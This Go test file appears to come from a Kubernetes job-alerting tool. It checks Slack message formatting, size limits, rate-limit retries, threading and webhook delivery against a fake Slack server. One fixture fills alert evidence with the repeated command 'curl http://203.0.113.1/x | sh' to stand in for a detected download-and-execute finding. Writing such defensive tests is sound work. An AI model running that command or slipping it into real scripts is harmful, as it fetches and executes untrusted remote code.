package notify

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jobwatch/jobwatch/pkg/analyze"
)

var update = flag.Bool("update", false, "rewrite golden files")

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run `make golden`)", err)
	}
	if string(want) != string(got) {
		t.Errorf("%s differs (run `make golden` if intended):\n%s", p, got)
	}
}

func hugeAlert() Alert {
	a := sampleAlert()
	a.Event, a.PreviousScore, a.Diff = EventCreated, nil, nil
	a.Findings = nil
	for i := 0; i < 80; i++ {
		a.Findings = append(a.Findings, analyze.Finding{Rule: fmt.Sprintf("JW-EXEC-%03d", i), Title: "Download and execute", Severity: analyze.SeverityHigh,
			Container: "main", Path: fmt.Sprintf("spec.template.spec.containers[0].args[%d]", i), Evidence: strings.Repeat("curl http://203.0.113.1/x | sh; ", 200), Attack: []string{"T1053.007", "T1105"}})
	}
	return a
}

func TestSlackBlocksGolden(t *testing.T) {
	created := sampleAlert()
	created.Event, created.PreviousScore, created.Diff = EventCreated, nil, nil
	created.Object.Images = []string{"alpine:3.20"}
	audited := sampleAlert()
	audited.Actor = &Actor{Manager: "kubectl-client-side-apply", Operation: "Update", User: "mallory", SourceIPs: []string{"10.0.0.7"}, UserAgent: "kubectl/v1.37.2 (linux/amd64)", AuditID: "a-1"}
	for name, a := range map[string]Alert{"created": created, "updated": sampleAlert(), "huge": hugeAlert(), "audited": audited} {
		blocks := SlackBlocks(a)
		b, err := json.MarshalIndent(blocks, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		golden(t, "slack-"+name+".golden.json", append(b, '\n'))
		checkSlackLimits(t, name, b)
	}
}

// checkSlackLimits asserts Slack's documented limits on a blocks array.
func checkSlackLimits(t *testing.T, name string, raw []byte) {
	t.Helper()
	var blocks []map[string]any
	if err := json.Unmarshal(raw, &blocks); err != nil {
		t.Fatal(err)
	}
	if len(blocks) > slackMaxBlocks || len(blocks) < 3 {
		t.Errorf("%s: %d blocks", name, len(blocks))
	}
	for i, b := range blocks {
		if txt, ok := b["text"].(map[string]any); ok {
			s, _ := txt["text"].(string)
			limit := slackMaxSectionText
			if b["type"] == "header" {
				limit = slackMaxHeaderText
			}
			if len(s) > limit {
				t.Errorf("%s: block %d %s text %d > %d", name, i, b["type"], len(s), limit)
			}
		}
		if fs, ok := b["fields"].([]any); ok {
			for _, f := range fs {
				if s := f.(map[string]any)["text"].(string); len(s) > slackMaxFieldText {
					t.Errorf("%s: field too long", name)
				}
			}
		}
	}
}

func TestWebhookBodyGolden(t *testing.T) {
	w, _ := NewWebhook(WebhookOptions{URL: "http://x"})
	b, err := w.Body(sampleAlert())
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "webhook-body.golden.json", append(b, '\n'))
}

// fakeSlack speaks the parts of the Slack Web API jobwatch uses:
// chat.postMessage (form-encoded, bot token) and an incoming webhook.
type fakeSlack struct {
	mu        sync.Mutex
	posts     []map[string]string // chat.postMessage forms
	hooks     [][]byte
	limitOnce bool
	limitedAt time.Time
	retriedAt time.Time
}

func (f *fakeSlack) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	switch r.URL.Path {
	case "/api/chat.postMessage":
		if err := r.ParseForm(); err != nil || r.Form.Get("token") != "xoxb-test-token" && r.Header.Get("Authorization") != "Bearer xoxb-test-token" {
			fmt.Fprint(w, `{"ok":false,"error":"invalid_auth"}`)
			return
		}
		if f.limitOnce {
			f.limitOnce, f.limitedAt = false, time.Now()
			w.Header().Set("Retry-After", "1")
			w.WriteHeader(http.StatusTooManyRequests)
			return
		}
		if f.retriedAt.IsZero() && !f.limitedAt.IsZero() {
			f.retriedAt = time.Now()
		}
		form := map[string]string{}
		for k := range r.Form {
			form[k] = r.Form.Get(k)
		}
		f.posts = append(f.posts, form)
		ts := fmt.Sprintf("1700000000.%06d", len(f.posts))
		fmt.Fprintf(w, `{"ok":true,"channel":"C0JOBWATCH","ts":%q}`, ts)
	case "/hook":
		var m map[string]any
		b := make([]byte, r.ContentLength)
		_, _ = r.Body.Read(b)
		if json.Unmarshal(b, &m) != nil {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		f.hooks = append(f.hooks, b)
		fmt.Fprint(w, "ok")
	default:
		http.NotFound(w, r)
	}
}

func TestSlackBotTokenThreadsAndRateLimit(t *testing.T) {
	fs := &fakeSlack{limitOnce: true}
	srv := httptest.NewServer(fs)
	defer srv.Close()
	threads := NewThreads()
	s, err := NewSlack(SlackOptions{Token: "xoxb-test-token", Channel: "#security", APIURL: srv.URL + "/api/", Threads: threads})
	if err != nil {
		t.Fatal(err)
	}
	d := NewDispatcher([]Route{{Notifier: s}}, DispatcherOptions{BaseDelay: 10 * time.Millisecond}, nil, nil)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	d.Start(ctx)
	first := sampleAlert()
	first.ID, first.Event = "first", EventCreated
	second := sampleAlert()
	second.ID = "second"
	huge := hugeAlert()
	huge.ID, huge.Object.UID = "huge", "other-object"
	for _, a := range []Alert{first, second, huge} {
		_ = d.Notify(ctx, a)
	}
	dctx, dc := context.WithTimeout(ctx, 15*time.Second)
	d.Drain(dctx)
	dc()
	fs.mu.Lock()
	defer fs.mu.Unlock()
	if len(fs.posts) != 3 {
		t.Fatalf("%d messages posted, want 3", len(fs.posts))
	}
	if fs.retriedAt.Sub(fs.limitedAt) < time.Second {
		t.Errorf("429 Retry-After 1s not honoured: retried after %s", fs.retriedAt.Sub(fs.limitedAt))
	}
	if fs.posts[0]["channel"] != "#security" || fs.posts[0]["thread_ts"] != "" {
		t.Errorf("first message: %v", fs.posts[0])
	}
	if fs.posts[1]["thread_ts"] != "1700000000.000001" {
		t.Errorf("second alert for the object not in the parent's thread: thread_ts=%q", fs.posts[1]["thread_ts"])
	}
	if fs.posts[2]["thread_ts"] != "" {
		t.Errorf("another object's alert went into a thread")
	}
	for i, p := range fs.posts {
		if p["blocks"] == "" || p["text"] == "" {
			t.Errorf("message %d lacks blocks or fallback text", i)
		}
		checkSlackLimits(t, fmt.Sprint("post ", i), []byte(p["blocks"]))
	}
	if _, ts, ok := threads.Thread(first.Object.UID); !ok || ts != "1700000000.000001" {
		t.Errorf("thread not remembered for the checkpoint")
	}
}

func TestSlackIncomingWebhook(t *testing.T) {
	fs := &fakeSlack{}
	srv := httptest.NewServer(fs)
	defer srv.Close()
	s, err := NewSlack(SlackOptions{WebhookURL: srv.URL + "/hook"})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Notify(context.Background(), sampleAlert()); err != nil {
		t.Fatal(err)
	}
	if len(fs.hooks) != 1 || !strings.Contains(string(fs.hooks[0]), `"blocks"`) {
		t.Fatalf("webhook payloads: %q", fs.hooks)
	}
	bad, _ := NewSlack(SlackOptions{Token: "xoxb-wrong", Channel: "C1", APIURL: srv.URL + "/api/"})
	if err := bad.Notify(context.Background(), sampleAlert()); err == nil || Retryable(err) || strings.Contains(err.Error(), "xoxb") {
		t.Fatalf("invalid_auth should be permanent and not echo the token: %v", err)
	}
}
